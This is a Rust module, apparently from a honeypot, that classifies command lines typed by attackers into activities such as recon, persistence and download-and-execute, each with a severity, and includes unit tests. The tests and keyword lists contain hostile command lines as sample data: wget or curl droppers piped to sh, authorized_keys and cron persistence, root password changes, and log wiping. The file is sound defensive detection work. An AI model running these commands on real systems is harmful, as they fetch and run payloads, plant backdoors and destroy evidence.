//! What a command line does, for its event's severity: persistence, a credential
//! change and download-and-execute are `high`; covering tracks, a download or
//! running a dropped file `medium`; anything else `low`, reconnaissance too; and
//! harmless lines (`exit`, `cd`, `pwd`, `echo`) `info`. So an analyst sorting by
//! severity finds the dropper and the `authorized_keys` line first, not `exit`.
//!
//! Pure, and deliberately a reading of the text the attacker typed (its simple
//! commands and the paths it names), not of what the fake shell did: a command
//! the shell does not have still says what it meant to do.

use nectar_event::Severity;

/// What a command line does, worst first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Activity {
    /// Nothing worth a look: `exit`, `cd`, `pwd`, `echo`, an empty line.
    Harmless,
    /// Looking around: `uname`, `id`, `cat /proc/cpuinfo`, `ps`, `ls`.
    Recon,
    /// Anything else.
    Other,
    /// Running a program the attacker brought (`chmod +x`, `./x`, `sh x.sh`).
    Execute,
    /// Fetching a file (`wget`, `curl`, `tftp`) without running it.
    Download,
    /// Covering tracks: `history -c`, `unset HISTFILE`, removing logs.
    AntiForensics,
    /// Staying: cron, `authorized_keys`, init scripts, new accounts.
    Persistence,
    /// Changing a password (`chpasswd`, `passwd`, `usermod -p`).
    CredentialChange,
    /// Fetching a file and running it (`wget ..; chmod +x ..; ./..`, `curl | sh`).
    DownloadExecute,
}

impl Activity {
    /// Its name in `data.activity`.
    pub fn as_str(self) -> &'static str {
        match self {
            Activity::Harmless => "harmless",
            Activity::Recon => "recon",
            Activity::Other => "other",
            Activity::Execute => "execute",
            Activity::Download => "download",
            Activity::AntiForensics => "anti_forensics",
            Activity::Persistence => "persistence",
            Activity::CredentialChange => "credential_change",
            Activity::DownloadExecute => "download_execute",
        }
    }

    /// The severity of a command event doing this.
    pub fn severity(self) -> Severity {
        match self {
            Activity::Harmless => Severity::Info,
            Activity::Recon | Activity::Other => Severity::Low,
            Activity::Execute | Activity::Download | Activity::AntiForensics => Severity::Medium,
            Activity::Persistence | Activity::CredentialChange | Activity::DownloadExecute => {
                Severity::High
            }
        }
    }
}

const HARMLESS: &[&str] = &[
    "exit",
    "logout",
    "cd",
    "pwd",
    "clear",
    "echo",
    "printf",
    "true",
    "false",
    ":",
    "sleep",
    "help",
    "enable",
    "system",
    "shell",
    "linuxshell",
    "sh",
    "bash",
    "ash",
    "su",
    "sudo",
    "export",
    "reset",
    "tty",
    "history",
];

const RECON: &[&str] = &[
    "uname",
    "whoami",
    "id",
    "w",
    "who",
    "last",
    "lastlog",
    "ps",
    "top",
    "ifconfig",
    "ip",
    "netstat",
    "ss",
    "free",
    "df",
    "du",
    "lscpu",
    "nproc",
    "cat",
    "head",
    "tail",
    "more",
    "less",
    "hostname",
    "uptime",
    "lspci",
    "lsusb",
    "lsblk",
    "dmidecode",
    "dmesg",
    "env",
    "arch",
    "getconf",
    "ls",
    "find",
    "locate",
    "which",
    "type",
    "grep",
    "mount",
    "route",
    "arp",
    "crontab -l",
    "date",
    "groups",
    "hostnamectl",
    "lsb_release",
    "nvidia-smi",
    "getent",
    "stat",
    "file",
    "printenv",
    "set",
    "whereis",
];

const DOWNLOADERS: &[&str] = &[
    "wget",
    "curl",
    "tftp",
    "ftpget",
    "fetch",
    "lwp-download",
    "scp",
    "rsync",
    "aria2c",
];

const RUNNERS: &[&str] = &[
    "sh", "bash", "ash", "dash", "zsh", "ksh", "perl", "python", "python2", "python3", "php",
    "ruby", "node", "nohup", "setsid", "source", ".",
];

const PERSISTENCE_WORDS: &[&str] = &[
    "authorized_keys",
    "/etc/cron",
    "/var/spool/cron",
    "/etc/rc.local",
    "/etc/init.d/",
    "/etc/rc.d/",
    "/etc/systemd/system",
    "/lib/systemd/system",
    ".bashrc",
    ".bash_profile",
    ".profile",
    "/etc/profile",
    "ld.so.preload",
    "/etc/sudoers",
];

const PERSISTENCE_NAMES: &[&str] = &[
    "crontab",
    "useradd",
    "adduser",
    "update-rc.d",
    "chkconfig",
    "at",
    "ssh-keygen",
];

const CREDENTIAL_NAMES: &[&str] = &["chpasswd", "passwd", "chage", "usermod"];

const ANTI_FORENSICS_WORDS: &[&str] = &[
    "history -c",
    "HISTFILE",
    "HISTSIZE=0",
    ".bash_history",
    "/var/log",
    "shred",
    "wtmp",
    "lastlog",
];

/// What `line` does (the worst of its simple commands).
pub fn classify(line: &str) -> Activity {
    let mut names: Vec<&str> = Vec::new();
    let mut arguments: Vec<&str> = Vec::new();
    for command in simple_commands(line) {
        let mut words = command.split_ascii_whitespace().skip_while(|w| {
            w.contains('=') && !w.starts_with('=')
                || matches!(*w, "sudo" | "busybox" | "env" | "nice" | "exec" | "command")
        });
        let Some(name) = words.next() else { continue };
        if names.len() < 64 {
            names.push(name);
            arguments.push(command);
        }
    }
    if names.is_empty() {
        // Only assignments (`HISTFILE=/dev/null`), or nothing.
        return if line.contains("HISTFILE=") || line.contains("HISTSIZE=0") {
            Activity::AntiForensics
        } else {
            Activity::Harmless
        };
    }
    let base = |name: &str| -> String {
        name.rsplit('/')
            .next()
            .unwrap_or(name)
            .trim_matches(['"', '\''])
            .to_owned()
    };
    let bases: Vec<String> = names.iter().map(|n| base(n)).collect();
    let has = |list: &[&str]| bases.iter().any(|b| list.contains(&b.as_str()));
    let text_has = |list: &[&str]| list.iter().any(|w| line.contains(w));

    if has(CREDENTIAL_NAMES) {
        return Activity::CredentialChange;
    }
    let download = has(DOWNLOADERS);
    // A program the attacker runs: `./x`, `/tmp/x`, `sh x`, `chmod +x`, `| sh`.
    let executes = names.iter().zip(&arguments).any(|(name, command)| {
        let b = base(name);
        name.starts_with("./")
            || (name.starts_with('/') && !is_system_path(name))
            || (RUNNERS.contains(&b.as_str()) && command.split_ascii_whitespace().count() > 1)
            || b == "chmod" && command.contains('x')
    }) || line.contains("| sh")
        || line.contains("|sh")
        || line.contains("| bash")
        || line.contains("|bash");
    if download && executes {
        return Activity::DownloadExecute;
    }
    let crontab_list = bases
        .iter()
        .zip(&arguments)
        .all(|(b, command)| b != "crontab" || command.split_ascii_whitespace().any(|w| w == "-l"));
    let persistent_name = bases
        .iter()
        .any(|b| PERSISTENCE_NAMES.contains(&b.as_str()) && b != "crontab")
        || !crontab_list
        || bases.iter().zip(&arguments).any(|(b, command)| {
            b == "systemctl" && command.split_ascii_whitespace().any(|w| w == "enable")
        });
    // Naming a persistence path is persistence only when writing it.
    let writes = line.contains('>')
        || bases
            .iter()
            .any(|b| matches!(b.as_str(), "tee" | "cp" | "mv" | "sed" | "install" | "ln"));
    if persistent_name || (writes && text_has(PERSISTENCE_WORDS)) {
        return Activity::Persistence;
    }
    if text_has(ANTI_FORENSICS_WORDS)
        && (bases.iter().any(|b| {
            matches!(
                b.as_str(),
                "rm" | "unset" | "export" | "history" | "shred" | "truncate"
            )
        }) || writes
            || line.contains("HISTFILE=")
            || line.contains("HISTSIZE=0"))
    {
        return Activity::AntiForensics;
    }
    if download {
        return Activity::Download;
    }
    if executes {
        return Activity::Execute;
    }
    let harmless = bases.iter().all(|b| HARMLESS.contains(&b.as_str())) && !writes;
    if harmless {
        return Activity::Harmless;
    }
    let recon = bases
        .iter()
        .all(|b| RECON.contains(&b.as_str()) || HARMLESS.contains(&b.as_str()))
        && !writes;
    if recon || crontab_list && bases.iter().any(|b| b == "crontab") {
        return Activity::Recon;
    }
    Activity::Other
}

/// Whether a program path is one of the machine's own (not a dropped file).
fn is_system_path(name: &str) -> bool {
    [
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/local/bin/",
    ]
    .iter()
    .any(|dir| name.starts_with(dir))
}

/// The simple commands of a line: split on `;`, `&`, `|`, newlines, backticks and
/// `$(`, `(`, `)` (good enough to find command names; quoting is ignored).
fn simple_commands(line: &str) -> impl Iterator<Item = &str> {
    line.split(['\n', ';', '&', '|', '`', '(', ')'])
        .map(|part| part.strip_prefix('$').unwrap_or(part).trim())
        .filter(|part| !part.is_empty())
        .take(256)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(line: &str) -> (&'static str, Severity) {
        let a = classify(line);
        (a.as_str(), a.severity())
    }

    #[test]
    fn harmless_lines_are_info() {
        for line in [
            "exit",
            "",
            "cd /tmp",
            "pwd",
            "echo hello",
            "enable",
            "sh",
            "clear; exit",
        ] {
            assert_eq!(of(line), ("harmless", Severity::Info), "{line}");
        }
    }

    #[test]
    fn recon_is_low() {
        for line in [
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            "id; whoami",
            "ls -la /tmp",
            "crontab -l",
            "cat /etc/passwd",
            "free -m",
        ] {
            let (name, severity) = of(line);
            assert!(matches!(name, "recon" | "other"), "{line}: {name}");
            assert_eq!(severity, Severity::Low, "{line}");
        }
        assert_eq!(of("uname -a").0, "recon");
    }

    #[test]
    fn persistence_credentials_and_droppers_are_high() {
        let cases = [
            (
                "echo 'ssh-rsa AAAA x@y' >> ~/.ssh/authorized_keys",
                "persistence",
            ),
            (
                "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
                "persistence",
            ),
            (
                "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
                "persistence",
            ),
            ("useradd -m backup", "persistence"),
            ("systemctl enable evil.service", "persistence"),
            ("echo 'root:newpass' | chpasswd", "credential_change"),
            ("passwd", "credential_change"),
            (
                "cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; ./x.sh",
                "download_execute",
            ),
            ("curl -s http://203.0.113.5/i | sh", "download_execute"),
            (
                "busybox wget http://203.0.113.5/m -O m; sh m",
                "download_execute",
            ),
        ];
        for (line, want) in cases {
            assert_eq!(of(line), (want, Severity::High), "{line}");
        }
    }

    #[test]
    fn the_middle() {
        assert_eq!(
            of("wget http://203.0.113.5/x"),
            ("download", Severity::Medium)
        );
        assert_eq!(of("chmod +x /tmp/x"), ("execute", Severity::Medium));
        assert_eq!(of("/tmp/.x/miner -o pool"), ("execute", Severity::Medium));
        assert_eq!(of("history -c"), ("anti_forensics", Severity::Medium));
        assert_eq!(of("unset HISTFILE"), ("anti_forensics", Severity::Medium));
        assert_eq!(
            of("HISTFILE=/dev/null"),
            ("anti_forensics", Severity::Medium)
        );
        assert_eq!(
            of("rm -rf /var/log/*"),
            ("anti_forensics", Severity::Medium)
        );
        assert_eq!(of("cat /etc/rc.local").0, "recon");
        assert_eq!(of("iptables -F"), ("other", Severity::Low));
    }

    #[test]
    fn hostile_input_is_bounded() {
        let long = "a;".repeat(100_000);
        assert_eq!(classify(&long), Activity::Other);
        let _ = classify("`$((((");
        let _ = classify("\u{0}\u{ffff};|&");
    }
}
